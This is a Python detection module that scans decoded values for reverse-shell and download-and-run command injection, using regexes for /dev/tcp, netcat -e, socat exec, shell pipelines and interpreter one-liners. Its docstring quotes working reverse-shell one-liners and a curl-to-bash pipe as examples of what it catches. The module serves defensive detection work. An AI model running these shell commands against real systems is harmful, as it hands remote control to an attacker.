"""Command injection that opens a shell over the network: reverse shells and download-and-run.

``cmdi.reverse_shell`` (90, anywhere in a value, as these shapes have no other use):

- bash's ``/dev/tcp/host/port`` (``bash -i >& /dev/tcp/10.0.0.1/4444 0>&1``);
- netcat with a program to run: ``nc -e /bin/sh 10.0.0.1 4444``, ``ncat ... --exec cmd.exe``,
  ``nc -c bash``;
- a pipeline between a network tool and a shell, either way round:
  ``telnet h 1 | /bin/sh | telnet h 2``, ``mkfifo /tmp/f; nc h 1 < /tmp/f | /bin/sh > /tmp/f``,
  ``sh -i 2>&1 | nc h 1``;
- socat running a program: ``socat exec:'bash -li',pty tcp:h:1``, ``socat tcp:h:1 system:sh``;
- an interpreter one-liner (``python -c``, ``perl -e``, ``php -r``, ``ruby -e``, ``node -e``,
  ``powershell -c``) that both opens a socket and starts a shell or a process.

``cmdi.download_exec``: ``curl``/``wget`` output piped into a shell or an interpreter, in a command
position: inside ``$(...)`` or backticks, or after ``;``, ``|``, ``&`` or a newline (90; 80 when the
text before it is prose). A bare ``curl https://get.example | bash`` at the start of a value is an
install instruction, as posts and docs quote it, and is left alone.

Shell quoting that splits a word (``n''c``, ``c\\url``, ``w"g"et``) is undone before matching and
``$IFS`` is a space (done by the caller). Every pattern starts only at the start of a word, and its
runs are bounded or possessive over classes that exclude what follows them: linear time.
"""

from __future__ import annotations

import re

from .findings import Finding, ThreatClass

_QUOTING = frozenset("'\"\\")
_UNQUOTE = str.maketrans("", "", "'\"\\")
# What a value needs before any pattern here can match: cheap substring tests.
_HINTS = ("/dev/", "nc", "telnet", "socat", "sock", "openssl", "tcpclient", "connect(", "curl", "wget")

_SHELL = r"(?:[\w.-]*/)*(?:ba|z|da|k|tc|a)?sh(?:\.exe)?|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh"
_NETCAT = r"(?:nc|ncat|netcat)(?:\.[a-z]+)?"
_NET_TOOL = rf"(?:{_NETCAT}|telnet|socat|openssl)"

_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[\w.-]+/\d+")
_NETCAT_EXEC = re.compile(
    rf"(?<![\w./-]){_NETCAT}\s[^;|&\n]{{0,128}}?(?:-[a-z]*[ec]|--(?:sh-)?exec)\s*+(?:/|(?:{_SHELL})(?![\w.-]))"
)
_NET_TO_SHELL = re.compile(
    rf"(?<![\w./-]){_NET_TOOL}(?![\w.-])[^;|\n]{{0,128}}+\|\s*+(?:sudo\s++)?(?:{_SHELL})(?![\w.-])"
)
_SHELL_TO_NET = re.compile(rf"(?<![\w./-])(?:{_SHELL})(?![\w.-])[^;|\n]{{0,128}}+\|\s*+{_NET_TOOL}(?![\w.-])")
_SOCAT_EXEC = re.compile(r"(?<![\w./-])socat\s[^;|&\n]{0,256}?(?<![\w-])(?:exec|system):")
_INTERPRETER = re.compile(
    r"(?<![\w./-])(?:python[23]?(?:\.\d+)?|perl|ruby|php|lua|node|powershell|pwsh)(?:\.exe)?"
    r"\s[^\n]{0,64}?(?<![\w-])-(?:[a-z]*[cer]|command)(?![\w-])"
)
_SOCKET = re.compile(r"socket\(|socket\.|fsockopen|tcpsocket|tcpclient|io::socket|\bconnect\(")
_SPAWN = re.compile(r"/bin/|subprocess|dup2|\bexec|spawn|system\(|popen|child_process|pty\.|cmd\.exe|\bsh\s+-i")
_DOWNLOAD_EXEC = re.compile(
    r"(?<![\w./-])(?:curl|wget)(?:\.exe)?(?![\w.-])[^;|&\n`)]{0,256}+\|\s*+(?:sudo\s++)?"
    rf"(?:{_SHELL}|python[23]?|perl|ruby|php|node)(?![\w.-])"
)
_PROSE = re.compile(r"\S\s+\S")


def _original(text: str, index: int) -> int:
    """The index in ``text`` of the character at ``index`` in ``text`` without its quoting."""
    seen = 0
    for position, char in enumerate(text):
        if char in _QUOTING:
            continue
        if seen == index:
            return position
        seen += 1
    return len(text)


def _download_score(plain: str, start: int) -> float:
    """90 in a command position, 80 after a separator in prose, 0 where nothing precedes it."""
    before = plain[:start].rstrip()
    if not before:
        return 0.0
    last = before[-1]
    if last == "`" or before.endswith("$("):
        return 90.0
    if last not in ";|&\n\r":
        return 0.0  # "run: curl https://get.example | sh" in a post
    return 80.0 if _PROSE.search(before[:-1].strip()) else 90.0


def scan(text: str) -> list[Finding]:
    """Network-shell findings in one decoded, lower-cased value whose ``$IFS`` is already a space."""
    plain = text.translate(_UNQUOTE) if any(c in text for c in _QUOTING) else text
    if not any(hint in plain for hint in _HINTS):
        return []
    found: list[Finding] = []
    spans: list[tuple[str, float, int, int]] = []
    shell = (
        ("/dev/" in plain and _DEV_TCP.search(plain))
        or _NETCAT_EXEC.search(plain)
        or ("|" in plain and (_NET_TO_SHELL.search(plain) or _SHELL_TO_NET.search(plain)))
        or ("socat" in plain and _SOCAT_EXEC.search(plain))
    )
    if not shell and (one_liner := _INTERPRETER.search(plain)):
        rest = plain[one_liner.end() :]
        if _SOCKET.search(rest) and _SPAWN.search(rest):
            shell = one_liner
    if shell:
        spans.append(("cmdi.reverse_shell", 90.0, shell.start(), shell.end()))
    if "|" in plain:
        for download in _DOWNLOAD_EXEC.finditer(plain):
            score = _download_score(plain, download.start())
            if score:
                spans.append(("cmdi.download_exec", score, download.start(), download.end()))
                break
    for rule, score, start, end in spans:
        if plain is text:
            found.append(Finding(rule, ThreatClass.CMDI, score, start, end))
        else:
            found.append(Finding(rule, ThreatClass.CMDI, score, _original(text, start), _original(text, end - 1) + 1))
    return found
